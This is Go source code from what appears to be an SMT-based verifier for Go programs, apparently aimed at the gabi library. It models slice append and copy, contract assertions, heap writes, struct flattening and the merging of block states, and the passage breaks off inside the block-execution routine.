	fc.permFact(fmt.Sprintf("(=> (= (card %s) 0) (forall ((kk Int)) (! (not (select %s kk)) :pattern ((select %s kk)))))", row, row, row))
}

func (fr *Frame) execAppend(b *ssa.BasicBlock, st *State, args []Val, resT types.Type, pos token.Pos) Val {
	fc := fr.fc
	s := fr.scalar(args[0])
	t := fr.scalar(args[1])
	sl, ok := resT.Underlying().(*types.Slice)
	if !ok {
		fc.unsupported("append result not slice")
		return fr.havocVal(resT, "append")
	}
	el := sl.Elem()
	heaps := fr.elemHeaps(el)
	// appending a string to []byte
	srcIsString := false
	if bt, ok := args[1].Typ.Underlying().(*types.Basic); ok && bt.Info()&types.IsString != 0 {
		srcIsString = true
	}
	lenS, lenT := sApp("sl_len", s), sApp("sl_len", t)
	if srcIsString {
		lenT = sApp("strlen", t)
	}
	offS, arrS, capS := sApp("sl_off", s), sApp("sl_arr", s), sApp("sl_cap", s)
	inplace := fc.freshConst("inplace", "Bool")
	newLen := sApp("+", lenS, lenT)
	fr.assume(b, sImp(inplace, sApp("<=", newLen, capS)))
	fr.assume(b, sImp(sApp(">", newLen, capS), sNot(inplace)))
	r := fc.freshConst("sl_app", "Int")
	freshArr := fr.alloc(st, "arr")
	arrR := fc.freshConst("app_arr", "Int")
	offR := fc.freshConst("app_off", "Int")
	fc.addFact("true", sEq(arrR, sIte(inplace, arrS, freshArr)))
	offT := sApp("sl_off", t)
	_ = offR
	// The result keeps the offset of the source slice also when a new array is allocated (offsets are not
	// observable); its row equals the source row outside the appended window. The spare capacity of a
	// reallocated array (zeroes in reality) is therefore not modelled.
	fc.addFact("true", sEq(offR, offS))
	for _, eh := range heaps {
		h := eh.heap
		heapBefore := fc.get(st, h)
		fc.noteRead(heapBefore, arrS)
		fc.noteRead(heapBefore, sApp("sl_arr", t))
		oldRowS := sSel(heapBefore, arrS)
		rowT := sSel(heapBefore, sApp("sl_arr", t))
		var newRow string
		if n, known := fc.knownLen[t]; known && !srcIsString && n <= 8 {
			newRow = oldRowS
			for i := int64(0); i < n; i++ {
				newRow = sStore(newRow, sApp("+", offS, lenS, fmt.Sprint(i)), sSel(rowT, sApp("+", offT, fmt.Sprint(i))))
			}
			nr := fc.freshConst("approw", arrSort(eh.sort))
			fc.addFact("true", sEq(nr, newRow))
			newRow = nr
		} else {
			newRow = fc.freshConst("approw", arrSort(eh.sort))
			fc.appendLens = append(fc.appendLens, lenS)
			if !srcIsString {
				fc.qcount++
				iv := fmt.Sprintf("qv%dx_ai", fc.qcount)
				body := fmt.Sprintf("(=> (and (<= 0 %s) (< %s %s)) (= (select %s (+ %s %s %s)) (select %s (+ %s %s))))", iv, iv, lenT, newRow, offS, lenS, iv, rowT, offT, iv)
				all := fmt.Sprintf("(forall ((%s Int)) (! %s :pattern ((select %s (+ %s %s %s)))))", iv, body, newRow, offS, lenS, iv)
				fc.addFactQ(fr.reach[b.Index], all, []QInst{{Forall: all, Var: iv, Inst: body}})
			}
			fc.qcount++
			jv := fmt.Sprintf("qv%dx_aj", fc.qcount)
			body2 := fmt.Sprintf("(=> (or (< %s (+ %s %s)) (>= %s (+ %s %s))) (= (select %s %s) (select %s %s)))", jv, offS, lenS, jv, offS, newLen, newRow, jv, oldRowS, jv)
			all2 := fmt.Sprintf("(forall ((%s Int)) (! %s :pattern ((select %s %s))))", jv, body2, newRow, jv)
			fc.addFactQ(fr.reach[b.Index], all2, []QInst{{Forall: all2, Var: jv, Inst: body2}})
			fc.appendOffs = append(fc.appendOffs, offS)
		}
		if b8, ok := el.Underlying().(*types.Basic); ok && b8.Kind() == types.Uint8 {
			fr.specNative("bcat")
			var tseq string
			if srcIsString {
				fr.declBytesOf()
				tseq = sApp("strbytes", t)
			} else {
				tseq = sApp("bseq", rowT, offT, lenT)
			}
			fr.assume(b, sEq(sApp("bseq", newRow, offS, newLen), sApp("u_bcat", sApp("bseq", oldRowS, offS, lenS), tseq)))
		}
		fr.checkLoopWrite(h, arrR)
		fc.logWrite(h, freshArr)
		fc.logWrite(h, arrS)
		fc.setDef(st, "true", h, sStore(heapBefore, arrR, newRow))
		fc.parents[st.vars[h]] = append(fc.parents[st.vars[h]], heapBefore)
	}
	capR := fc.freshConst("cap", "Int")
	fr.assume(b, sAnd(sEq(sApp("sl_arr", r), arrR), sEq(sApp("sl_off", r), offR), sEq(sApp("sl_len", r), newLen),
		sEq(sApp("sl_cap", r), sIte(inplace, capS, capR)), sApp(">=", capR, newLen), sApp("<=", capR, "281474976710656"),
		sImp(sNot(sEq(s, "0")), sNot(sEq(r, "0"))), sImp(sApp(">", newLen, "0"), sNot(sEq(r, "0")))))
	return Val{S: r, Typ: resT}
}

func (fr *Frame) execCopy(b *ssa.BasicBlock, st *State, args []Val, resT types.Type, pos token.Pos) Val {
	fc := fr.fc
	d := fr.scalar(args[0])
	s := fr.scalar(args[1])
	sl := args[0].Typ.Underlying().(*types.Slice)
	el := sl.Elem()
	h := heapElem(el)
	fc.regVar(h, arr2Sort(sortOf(el)))
	srcIsString := false
	if bt, ok := args[1].Typ.Underlying().(*types.Basic); ok && bt.Info()&types.IsString != 0 {
		srcIsString = true
	}
	lenD := sApp("sl_len", d)
	lenS := sApp("sl_len", s)
	if srcIsString {
		lenS = sApp("strlen", s)
	}
	n := fc.freshConst("ncopy", "Int")
	fc.addFact("true", sEq(n, sIte(sApp("<=", lenD, lenS), lenD, lenS)))
	heapBefore := fc.get(st, h)
	arrD, offD := sApp("sl_arr", d), sApp("sl_off", d)
	oldRow := sSel(heapBefore, arrD)
	newRow := fc.freshConst("copyrow", arrSort(sortOf(el)))
	if !srcIsString {
		rowS := sSel(heapBefore, sApp("sl_arr", s))
		offS := sApp("sl_off", s)
		fc.qcount++
		iv := fmt.Sprintf("qv%dx_ci", fc.qcount)
		body := fmt.Sprintf("(=> (and (<= 0 %s) (< %s %s)) (= (select %s (+ %s %s)) (select %s (+ %s %s))))", iv, iv, n, newRow, offD, iv, rowS, offS, iv)
		all := fmt.Sprintf("(forall ((%s Int)) (! %s :pattern ((select %s (+ %s %s)))))", iv, body, newRow, offD, iv)
		fc.addFactQ(fr.reach[b.Index], all, []QInst{{Forall: all, Var: iv, Inst: body}})
		fc.appendLens = append(fc.appendLens, offD)
	}
	fc.qcount++
	jv := fmt.Sprintf("qv%dx_cj", fc.qcount)
	body2 := fmt.Sprintf("(=> (or (< %s %s) (>= %s (+ %s %s))) (= (select %s %s) (select %s %s)))", jv, offD, jv, offD, n, newRow, jv, oldRow, jv)
	all2 := fmt.Sprintf("(forall ((%s Int)) (! %s :pattern ((select %s %s))))", jv, body2, newRow, jv)
	fc.addFactQ(fr.reach[b.Index], all2, []QInst{{Forall: all2, Var: jv, Inst: body2}})
	fc.appendOffs = append(fc.appendOffs, offD)
	fr.checkLoopWrite(h, arrD)
	fc.logWrite(h, arrD)
	// copying into a nil/empty slice changes nothing
	fc.setDef(st, "true", h, sIte(sEq(n, "0"), heapBefore, sStore(heapBefore, arrD, newRow)))
	return Val{S: n, Typ: resT}
}

// callAsserts evaluates the contract's `assert at <callee>` clauses at a matching call site ($0, $1, ... are the arguments)
func (fr *Frame) callAsserts(b *ssa.BasicBlock, st *State, name string, args []Val, pos token.Pos) {
	if fr.contract == nil || fr.inlined {
		return
	}
	for _, ca := range fr.contract.Asserts {
		if !strings.Contains(name, ca.Callee) {
			continue
		}
		if fr.callCount == nil {
			fr.callCount = map[string]int{}
		}
		k := ca.Callee + "/" + ca.Cl.Label
		n := fr.callCount[k]
		fr.callCount[k]++
		if ca.Nth >= 0 && ca.Nth != n {
			continue
		}
		vars := map[string]Val{}
		for kk, v := range fr.params {
			vars[kk] = v
		}
		for i, a := range args {
			vars[fmt.Sprintf("$%d", i)] = a
		}
		env := &SpecEnv{fr: fr, vars: vars, now: st, old: fr.pre, pkg: fr.fn.Pkg.Pkg, header: fr.innermostHeader(b)}
		t, sks := fr.evalGoal(ca.Cl.E, env)
		fr.fc.obligeSplit("assert", "at:"+ca.Callee+"."+ca.Cl.Label, fr.reach[b.Index], t, pos, fr.propsFor(ca.Cl.Props), true, sks)
	}
}

// callApplies: apply at <callee>[#n] lemma(args) - the lemma's statement for these argument values becomes a fact
// before the matching call (the lemma itself is an obligation of the function, see verifyFn)
func (fr *Frame) callApplies(b *ssa.BasicBlock, st *State, name string, args []Val, pos token.Pos) {
	if fr.contract == nil || fr.inlined {
		return
	}
	for ai, ap := range fr.contract.Applies {
		if !strings.Contains(name, ap.Callee) {
			continue
		}
		if fr.callCount == nil {
			fr.callCount = map[string]int{}
		}
		k := fmt.Sprintf("%s/apply%d", ap.Callee, ai)
		n := fr.callCount[k]
		fr.callCount[k]++
		if ap.Nth >= 0 && ap.Nth != n {
			continue
		}
		ax := fr.fc.eng.lemmaByName(ap.Lemma)
		if ax == nil {
			// an (assumed) axiom can be instantiated the same way; it is listed as trusted
			if ax = fr.fc.eng.axiomByName(ap.Lemma); ax != nil {
				fr.fc.trusted["axiom "+ax.Name+": "+ax.Src] = true
			}
		}
		if ax == nil || len(ax.Vars) != len(ap.Args) {
			fr.fc.unsupported("apply: lemma %s unknown or wrong number of arguments", ap.Lemma)
			continue
		}
		vars := map[string]Val{}
		for kk, v := range fr.params {
			vars[kk] = v
		}
		for i, a := range args {
			vars[fmt.Sprintf("$%d", i)] = a
		}
		env := &SpecEnv{fr: fr, vars: vars, now: st, old: fr.pre, pkg: fr.fn.Pkg.Pkg, header: fr.innermostHeader(b)}
		lenv := fr.specEnv(st, fr.pre, nil, nil)
		lenv.vars = map[string]Val{}
		for i, v := range ax.Vars {
			av := fr.evalSpec(ap.Args[i], env)
			lenv = lenv.withBound(v, Val{S: fr.scalar(av), Typ: tInt})
		}
		for _, pk := range fr.fc.eng.pkgs {
			if pk.PkgPath == ax.Pkg {
				lenv.pkg = pk.Types
			}
		}
		fr.fc.addFact(fr.reach[b.Index], fr.evalBool(ax.E, lenv))
	}
}

// innermostHeader: header of the innermost loop containing block b (nil if none)
func (fr *Frame) innermostHeader(b *ssa.BasicBlock) *ssa.BasicBlock {
	var best *loopInfo
	for _, li := range fr.loops {
		if li.blocks[b.Index] && (best == nil || len(li.blocks) < len(best.blocks)) {
			best = li
		}
	}
	if best == nil {
		return nil
	}
	return best.header
}

// topLevelFresh returns the names x for which fresh(x) is an unconditional conjunct of e
func topLevelFresh(e Expr) []string {
	switch x := e.(type) {
	case *EBin:
		if x.Op == "&&" {
			return append(topLevelFresh(x.X), topLevelFresh(x.Y)...)
		}
	case *ECall:
		if x.Fn == "fresh" && len(x.Args) == 1 {
			if id, ok := x.Args[0].(*EIdent); ok {
				return []string{id.Name}
			}
		}
	}
	return nil
}

// plainTarget: pointer to big.Int (modelled as an opaque value) or to a struct without reference-typed fields
func plainTarget(t types.Type) bool {
	p, ok := t.Underlying().(*types.Pointer)
	if !ok {
		return false
	}
	if isBigInt(p.Elem()) {
		return true
	}
	st, ok := p.Elem().Underlying().(*types.Struct)
	if !ok {
		return false
	}
	for i := 0; i < st.NumFields(); i++ {
		switch st.Field(i).Type().Underlying().(type) {
		case *types.Basic:
		default:
			return false
		}
	}
	return true
}

// contractOf: the contract of a function; an instantiation of a generic function is covered by the contract of
// the generic function it was instantiated from
func (e *Engine) contractOf(fn *ssa.Function) *Contract {
	if c := e.fnContract[fn]; c != nil {
		return c
	}
	if o := fn.Origin(); o != nil {
		return e.fnContract[o]
	}
	return nil
}

// fnPkg: the types package of a function; instantiations of generic functions have no package of their own
func fnPkg(fn *ssa.Function) *types.Package {
	if fn.Pkg != nil {
		return fn.Pkg.Pkg
	}
	if o := fn.Origin(); o != nil && o.Pkg != nil {
		return o.Pkg.Pkg
	}
	return nil
}
