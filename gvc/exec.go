package main

import (
	"fmt"
	"go/token"
	"go/types"
	"regexp"
	"strconv"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// ---------------------------------------------------------------------------
// write log (used by loop dry runs)

type writeRec struct {
	Var string
	Row string // "" = whole variable
	Idx string // for two-level heaps: "" = whole row
}

type FnLog struct {
	active bool
	writes []writeRec
	allocs map[string]bool
}

var reVer = regexp.MustCompile(`!(\d+)`)

// does the term only mention constants created up to counter limit?
func termInvariant(term string, limit int) bool {
	for _, m := range reVer.FindAllStringSubmatch(term, -1) {
		n, _ := strconv.Atoi(m[1])
		if n > limit {
			return false
		}
	}
	return true
}

func (fc *FnCtx) logWrite(v, row string) {
	for _, l := range fc.logs() {
		l.writes = append(l.writes, writeRec{Var: v, Row: row})
	}
}

func (fc *FnCtx) logWrite2(v, row, idx string) {
	for _, l := range fc.logs() {
		l.writes = append(l.writes, writeRec{Var: v, Row: row, Idx: idx})
	}
}

var activeLogs = map[*FnCtx][]*FnLog{}

func (fc *FnCtx) logs() []*FnLog { return activeLogs[fc] }

// ---------------------------------------------------------------------------
// heap primitives (all writes go through these)

func (fr *Frame) wr1(st *State, heap, row, val string) {
	fc := fr.fc
	if heap == hBV {
		delete(fc.knownBig, row)
	}
	fr.checkLoopWrite(heap, row)
	fc.logWrite(heap, row)
	fc.setDef(st, "true", heap, sStore(fc.get(st, heap), row, val))
}

func (fr *Frame) wr2(st *State, heap, row, idx, val string) {
	fc := fr.fc
	fr.checkLoopWrite(heap, row)
	fc.logWrite2(heap, row, idx)
	cur := fc.get(st, heap)
	fc.noteRead(cur, row)
	fc.setDef(st, "true", heap, sStore(cur, row, sStore(sSel(cur, row), idx, val)))
}

func (fr *Frame) wrRow(st *State, heap, row, rowval string) {
	fc := fr.fc
	fr.checkLoopWrite(heap, row)
	fc.logWrite(heap, row)
	fc.setDef(st, "true", heap, sStore(fc.get(st, heap), row, rowval))
}

func (fr *Frame) wrScalar(st *State, v, val string) {
	fr.fc.logWrite(v, "")
	fr.fc.set(st, v, val)
}

func (fr *Frame) havocWhole(st *State, v string) {
	fr.checkLoopWrite(v, "")
	fr.fc.logWrite(v, "")
	old := fr.fc.get(st, v)
	nv := fr.fc.freshConst(v, fr.fc.sortOfVar(v))
	fr.fc.set(st, v, nv)
	if strings.HasPrefix(fr.fc.sortOfVar(v), "(Array") {
		// objects this function allocated and never let escape cannot be touched by anybody else
		for _, r := range sortedKeys(fr.fc.localRefs) {
			fr.fc.addFact("true", sEq(sSel(nv, r), sSel(old, r)))
		}
	}
	fr.fc.pendingClosed = append(fr.fc.pendingClosed, [2]string{nv, v})
}

// after havocs, state that the new heap versions only hold allocated references
func (fr *Frame) flushClosed(st *State) {
	fc := fr.fc
	a := fc.get(st, hAlloc)
	for _, p := range fc.pendingClosed {
		if fc.heapAlloc == nil {
			fc.heapAlloc = map[string]string{}
		}
		fc.heapAlloc[p[0]] = a
		if cf := fc.closedFact(p[0], p[1], a); cf != "true" {
			fc.facts = append(fc.facts, Fact{Guard: "true", Term: cf, Class: "closed"})
		}
	}
	fc.pendingClosed = nil
	for _, v := range fc.pendingVals {
		if v.Typ != nil {
			fc.addFact("true", fr.typeFacts(v, st))
		}
	}
	fc.pendingVals = nil
	for _, p := range fc.pendingRows {
		if cf := fc.closedRowFact(p[0], p[1], a); cf != "true" {
			fc.facts = append(fc.facts, Fact{Guard: "true", Term: cf, Class: "closed"})
		}
	}
	fc.pendingRows = nil
}

func (fr *Frame) alloc(st *State, hint string) string {
	fc := fr.fc
	fc.regVar(hAlloc, "Int")
	r := fc.freshConst("ref_"+hint, "Int")
	cur := fc.get(st, hAlloc)
	fc.addFact("true", sAnd(sApp(">", r, cur), sApp(">", r, "0")))
	fc.logWrite(hAlloc, "")
	fc.set(st, hAlloc, r)
	for _, l := range fc.logs() {
		l.allocs[r] = true
	}
	return r
}

// ---------------------------------------------------------------------------
// struct flattening

type leaf struct {
	path string
	typ  types.Type
	sub  bool // embedded object needing a sub reference (big.Int, array)
}

func leafFields(t types.Type, prefix string, out *[]leaf) {
	st, ok := t.Underlying().(*types.Struct)
	if !ok {
		return
	}
	for i := 0; i < st.NumFields(); i++ {
		f := st.Field(i)
		p := prefix + "." + f.Name()
		ft := f.Type()
		if isBigInt(ft) {
			*out = append(*out, leaf{p, ft, true})
			continue
		}
		switch ft.Underlying().(type) {
		case *types.Struct:
			leafFields(ft, p, out)
		case *types.Array:
			*out = append(*out, leaf{p, ft, true})
		default:
			*out = append(*out, leaf{p, ft, false})
		}
	}
}

func (fc *FnCtx) fieldHeap(root types.Type, path string, ft types.Type) string {
	h := heapField(root, path)
	heapValType[h] = ft
	fc.regVar(h, arrSort(sortOf(ft)))
	return h
}

var subIDs = map[string]int{}

func (fr *Frame) subRef(base string, root types.Type, path string) string {
	fc := fr.fc
	key := canonType(root) + path
	id, ok := subIDs[key]
	if !ok {
		id = len(subIDs) + 1
		subIDs[key] = id
	}
	fn := fmt.Sprintf("sub_%d", id)
	if !fc.declSet["fun:"+fn] {
		fc.declSet["fun:"+fn] = true
		fc.decls = append(fc.decls, fmt.Sprintf("(declare-fun %s (Int) Int)", fn))
		fc.decls = append(fc.decls, fmt.Sprintf("(declare-fun %s_inv (Int) Int)", fn))
		if !fc.declSet["fun:subtag"] {
			fc.declSet["fun:subtag"] = true
			fc.decls = append(fc.decls, "(declare-fun subtag (Int) Int)")
		}
	}
	t := sApp(fn, base)
	k := "subfact:" + t
	if !fc.declSet[k] {
		fc.declSet[k] = true
		fc.permFact(sAnd(
			sApp("<", t, "0"),
			sEq(sApp(fn+"_inv", t), base),
			sEq(sApp("subtag", t), fmt.Sprint(id)),
			sEq(sApp("subroot", t), sIte(sApp(">", base, "0"), base, sApp("subroot", base)))))
	}
	return t
}

func (fr *Frame) ptrTerm(v Val) string {
	if v.S != "" {
		return v.S
	}
	if v.Loc != nil && v.Loc.Kind == LObj {
		if v.Loc.Path == "" {
			return v.Loc.Base
		}
		if nt, ok := v.Loc.Root.(*types.Named); ok && nt.Obj().Pkg() != nil && !strings.HasPrefix(nt.Obj().Pkg().Path(), "github.com/privacybydesign/gabi") {
			// a struct of a package outside the repository: its fields are only ever touched by that package
			fr.fc.assumptions[fmt.Sprintf("interior pointer &x%s of a %s (type from outside the repository) is an opaque non-nil reference: accesses through it are not related to the fields of x", v.Loc.Path, typeKey(v.Loc.Root))] = true
			return fr.subRef(v.Loc.Base, v.Loc.Root, v.Loc.Path)
		}
		fr.fc.unsupported("address of embedded struct %s%s escapes", typeKey(v.Loc.Root), v.Loc.Path)
		return fr.subRef(v.Loc.Base, v.Loc.Root, v.Loc.Path)
	}
	if v.Loc != nil {
		fr.fc.unsupported("address of scalar location (%s) escapes", v.Loc.Heap)
	}
	return fr.fc.freshConst("escaped", "Int")
}

// normalise a pointer value into a Loc
func (fr *Frame) locOf(p Val) *Loc {
	if p.Loc != nil {
		return p.Loc
	}
	pt, ok := p.Typ.Underlying().(*types.Pointer)
	if !ok {
		fr.fc.unsupported("locOf non-pointer %s", p.Typ)
		return &Loc{Kind: LObj, Base: p.S, Elem: p.Typ}
	}
	el := pt.Elem()
	return &Loc{Kind: LObj, Base: p.S, Root: el, Elem: el}
}

func (fr *Frame) loadLoc(st *State, l *Loc) Val {
	fc := fr.fc
	switch l.Kind {
	case LField:
		return Val{S: fc.rd(st, l.Heap, l.Base), Typ: l.Elem}
	case LElem:
		return Val{S: fc.rd2(st, l.Heap, l.Base, l.Idx), Typ: l.Elem}
	case LGlobal:
		return Val{S: fc.get(st, l.Heap), Typ: l.Elem}
	case LElemObj:
		u, ok := l.Elem.Underlying().(*types.Struct)
		if !ok {
			fc.unsupported("element object of non-struct type")
			return Val{S: "0", Typ: l.Elem}
		}
		v := Val{Typ: l.Elem, IsAg: true}
		for i := 0; i < u.NumFields(); i++ {
			v.Agg = append(v.Agg, fr.loadLoc(st, fr.fieldOf(l, u.Field(i))))
		}
		return v
	case LObj:
		t := l.Elem
		if isBigInt(t) {
			fc.unsupported("big.Int copied by value")
			return Val{S: "0", Typ: t}
		}
		switch u := t.Underlying().(type) {
		case *types.Struct:
			root := l.Root
			if root == nil {
				root = t
			}
			v := Val{Typ: t, IsAg: true}
			for i := 0; i < u.NumFields(); i++ {
				f := u.Field(i)
				_ = root
				sub := fr.fieldOf(l, f)
				v.Agg = append(v.Agg, fr.loadLoc(st, sub))
			}
			return v
		case *types.Array:
			h := heapElem(u.Elem())
			fc.regVar(h, arr2Sort(sortOf(u.Elem())))
			id := fc.freshConst("arrval", "Int")
			fr.declArrContents(sortOf(u.Elem()))
			fc.addFact("true", sEq(sApp("arrcontents_"+sortOf(u.Elem()), id), fc.rd(st, h, l.Base)))
			return Val{S: id, Typ: t}
		default:
			h := heapBox(t)
			fc.regVar(h, arrSort(sortOf(t)))
			return Val{S: fc.rd(st, h, l.Base), Typ: t}
		}
	}
	fc.unsupported("load from unknown loc")
	return Val{S: "0", Typ: l.Elem}
}

func (fr *Frame) declArrContents(sort string) {
	fc := fr.fc
	n := "arrcontents_" + sort
	if !fc.declSet["fun:"+n] {
		fc.declSet["fun:"+n] = true
		fc.decls = append(fc.decls, fmt.Sprintf("(declare-fun %s (Int) (Array Int %s))", n, sort))
	}
}

func (fr *Frame) fieldLoc(base string, root types.Type, path string, f *types.Var) *Loc {
	return fr.fieldOf(&Loc{Kind: LObj, Base: base, Root: root, Path: path}, f)
}

func elemFieldHeap(fc *FnCtx, root types.Type, path string, ft types.Type) string {
	h := "EF:" + canonType(root) + path
	heapValType[h] = ft
	fc.regVar(h, arr2Sort(sortOf(ft)))
	return h
}

// fieldOf: location of field f inside the struct object denoted by parent (LObj or LElemObj)
func (fr *Frame) fieldOf(parent *Loc, f *types.Var) *Loc {
	ft := f.Type()
	np := parent.Path + "." + f.Name()
	root := parent.Root
	if root == nil {
		root = parent.Elem
	}
	if parent.Kind == LElemObj {
		if isBigInt(ft) {
			fr.fc.unsupported("big.Int embedded by value in a slice element")
			return &Loc{Kind: LObj, Base: "0", Elem: ft, Root: ft}
		}
		switch ft.Underlying().(type) {
		case *types.Struct:
			return &Loc{Kind: LElemObj, Base: parent.Base, Idx: parent.Idx, Root: root, Path: np, Elem: ft}
		case *types.Array:
			fr.fc.unsupported("array embedded in a slice element")
			return &Loc{Kind: LObj, Base: "0", Elem: ft, Root: ft}
		}
		return &Loc{Kind: LElem, Base: parent.Base, Idx: parent.Idx, Heap: elemFieldHeap(fr.fc, root, np, ft), Elem: ft}
	}
	base := parent.Base
	if isBigInt(ft) {
		s := fr.subRef(base, root, np)
		return &Loc{Kind: LObj, Base: s, Elem: ft, Root: ft}
	}
	switch ft.Underlying().(type) {
	case *types.Struct:
		return &Loc{Kind: LObj, Base: base, Root: root, Path: np, Elem: ft}
	case *types.Array:
		s := fr.subRef(base, root, np)
		return &Loc{Kind: LObj, Base: s, Elem: ft, Root: ft}
	}
	return &Loc{Kind: LField, Base: base, Heap: fr.fc.fieldHeap(root, np, ft), Elem: ft}
}

func (fr *Frame) storeLoc(st *State, l *Loc, v Val) {
	fc := fr.fc
	switch l.Kind {
	case LField:
		fr.wr1(st, l.Heap, l.Base, fr.scalar(v))
	case LElem:
		fr.wr2(st, l.Heap, l.Base, l.Idx, fr.scalar(v))
	case LGlobal:
		fr.wrScalar(st, l.Heap, fr.scalar(v))
	case LElemObj:
		u, ok := l.Elem.Underlying().(*types.Struct)
		if !ok {
			fc.unsupported("element object of non-struct type")
			return
		}
		for i := 0; i < u.NumFields(); i++ {
			var fv Val
			if v.IsAg && i < len(v.Agg) {
				fv = v.Agg[i]
			} else {
				fv = fr.havocVal(u.Field(i).Type(), "fld")
			}
			fr.storeLoc(st, fr.fieldOf(l, u.Field(i)), fv)
		}
	case LObj:
		t := l.Elem
		if isBigInt(t) {
			fc.unsupported("big.Int stored by value")
			return
		}
		switch u := t.Underlying().(type) {
		case *types.Struct:
			root := l.Root
			if root == nil {
				root = t
			}
			for i := 0; i < u.NumFields(); i++ {
				f := u.Field(i)
				_ = root
				sub := fr.fieldOf(l, f)
				var fv Val
				if v.IsAg && i < len(v.Agg) {
					fv = v.Agg[i]
				} else {
					fv = fr.havocVal(f.Type(), "fld")
				}
				fr.storeLoc(st, sub, fv)
			}
		case *types.Array:
			h := heapElem(u.Elem())
			fc.regVar(h, arr2Sort(sortOf(u.Elem())))
			fr.declArrContents(sortOf(u.Elem()))
			fr.wrRow(st, h, l.Base, sApp("arrcontents_"+sortOf(u.Elem()), fr.scalar(v)))
		default:
			h := heapBox(t)
			fc.regVar(h, arrSort(sortOf(t)))
			fr.wr1(st, h, l.Base, fr.scalar(v))
		}
	}
}

func (fr *Frame) scalar(v Val) string {
	if v.IsAg {
		fr.fc.unsupported("aggregate used as scalar (%s)", v.Typ)
		return "0"
	}
	if v.S == "" && v.Loc != nil {
		return fr.ptrTerm(v)
	}
	return v.S
}

// zero-initialise an object
func (fr *Frame) zeroInit(st *State, l *Loc) {
	fc := fr.fc
	t := l.Elem
	if isBigInt(t) {
		fc.regVar(hBV, arrSort("Int"))
		fr.wr1(st, hBV, l.Base, "0")
		return
	}
	switch u := t.Underlying().(type) {
	case *types.Struct:
		root := l.Root
		if root == nil {
			root = t
		}
		_ = root
		for i := 0; i < u.NumFields(); i++ {
			fr.zeroInit(st, fr.fieldOf(l, u.Field(i)))
		}
	case *types.Array:
		for _, eh := range fr.elemHeaps(u.Elem()) {
			fr.wrRow(st, eh.heap, l.Base, fmt.Sprintf("((as const (Array Int %s)) %s)", eh.sort, zeroTerm(eh.typ)))
		}
	default:
		if l.Kind == LObj {
			h := heapBox(t)
			fc.regVar(h, arrSort(sortOf(t)))
			fr.wr1(st, h, l.Base, zeroTerm(t))
		} else {
			fr.storeLoc(st, l, Val{S: zeroTerm(t), Typ: t})
		}
	}
}

// ---------------------------------------------------------------------------
// running a frame

func (fr *Frame) safetyProps() []string {
	if fr.contract != nil && len(fr.contract.Safety) > 0 {
		return fr.contract.Safety
	}
	return fr.propsList
}

func (fr *Frame) ob(kind, what string, b *ssa.BasicBlock, goal string, pos token.Pos) {
	if fr.contract != nil && !fr.contract.NoPanic {
		switch kind {
		case "nil", "index", "slice", "mapwrite", "assert", "div", "panic", "conv":
			// safety obligations switched off for this function: assume instead
			fr.fc.addFact(fr.reach[b.Index], goal)
			return
		}
	}
	if what == "" {
		what = "?"
	}
	fr.fc.oblige(kind, fr.prefix+what, fr.reach[b.Index], goal, pos, fr.safetyProps())
}

func (fr *Frame) assume(b *ssa.BasicBlock, term string) {
	fr.fc.addFact(fr.reach[b.Index], term)
}

func (fr *Frame) edgeGuard(from, to *ssa.BasicBlock) string {
	c, ok := fr.edgeCnd[edgeKey{from.Index, to.Index}]
	if !ok {
		c = "true"
	}
	return sAnd(fr.reach[from.Index], c)
}

func (fr *Frame) mergeStates(preds []*ssa.BasicBlock, to *ssa.BasicBlock) *State {
	fc := fr.fc
	if len(preds) == 1 {
		return fr.exit[preds[0].Index].clone()
	}
	keys := map[string]bool{}
	for _, p := range preds {
		for k := range fr.exit[p.Index].vars {
			keys[k] = true
		}
	}
	out := &State{vars: map[string]string{}}
	var merged []string
	for _, k := range sortedKeys(keys) {
		var terms []string
		same := true
		for _, p := range preds {
			t := fc.get(fr.exit[p.Index], k)
			terms = append(terms, t)
			if t != terms[0] {
				same = false
			}
		}
		if same {
			out.vars[k] = terms[0]
			continue
		}
		acc := terms[len(terms)-1]
		for i := len(preds) - 2; i >= 0; i-- {
			acc = sIte(fr.edgeGuard(preds[i], to), terms[i], acc)
		}
		c := fc.freshConst(k, fc.sortOfVar(k))
		fc.addFact("true", sEq(c, acc))
		if fc.parents == nil {
			fc.parents = map[string][]string{}
		}
		fc.parents[c] = append(fc.parents[c], terms...)
		if fc.mergeConst == nil {
			fc.mergeConst = map[string]bool{}
		}
		fc.mergeConst[c] = true
		out.vars[k] = c
		merged = append(merged, c)
	}
	if len(merged) > 0 {
		if fc.heapAlloc == nil {
			fc.heapAlloc = map[string]string{}
		}
		a := fc.get(out, hAlloc)
		for _, c := range merged {
			fc.heapAlloc[c] = a
		}
	}
	return out
}

func (fr *Frame) mergeVals(preds []*ssa.BasicBlock, to *ssa.BasicBlock, vals []Val, t types.Type) Val {
	if len(vals) == 1 {
		return vals[0]
	}
	if vals[0].IsAg {
		out := Val{Typ: t, IsAg: true}
		for i := range vals[0].Agg {
			var sub []Val
			for _, v := range vals {
				if i < len(v.Agg) {
					sub = append(sub, v.Agg[i])
				} else {
					sub = append(sub, fr.havocVal(vals[0].Agg[i].Typ, "agg"))
				}
			}
			out.Agg = append(out.Agg, fr.mergeVals(preds, to, sub, vals[0].Agg[i].Typ))
		}
		return out
	}
	same := true
	var terms []string
	for _, v := range vals {
		terms = append(terms, fr.scalar(v))
		if terms[len(terms)-1] != terms[0] {
			same = false
		}
	}
	if same {
		v := vals[0]
		v.Typ = t
		return v
	}
	acc := terms[len(terms)-1]
	for i := len(preds) - 2; i >= 0; i-- {
		acc = sIte(fr.edgeGuard(preds[i], to), terms[i], acc)
	}
	fr.fc.escape(acc)
	c := fr.fc.freshConst("phi", sortOf(t))
	fr.fc.addFact("true", sEq(c, acc))
	return Val{S: c, Typ: t}
}

// run executes the blocks in 'order' (a topologically sorted subset). entry block state must be preset in fr.exit? no:
// the state at the start of the first block is 'start'.
func (fr *Frame) run(start *State, entryGuard string) {
	fr.analyzeLoops()
	order := fr.rpo()
	fr.runBlocks(order, start, entryGuard, nil)
}

// runBlocks: if dry != nil, only blocks in dry.blocks are executed and dry.header is treated as entry with 'start'.
func (fr *Frame) runBlocks(order []*ssa.BasicBlock, start *State, entryGuard string, dry *loopInfo) {
	fc := fr.fc
	for _, b := range order {
		if dry != nil && !dry.blocks[b.Index] {
			continue
		}
		var st *State
		li := fr.loops[b.Index]
		isEntry := (dry == nil && b.Index == 0) || (dry != nil && b == dry.header)
		switch {
		case isEntry && dry != nil:
			// dry run of a loop: header with everything fresh
			st = start.clone()
			fr.reach[b.Index] = entryGuard
			for _, ins := range b.Instrs {
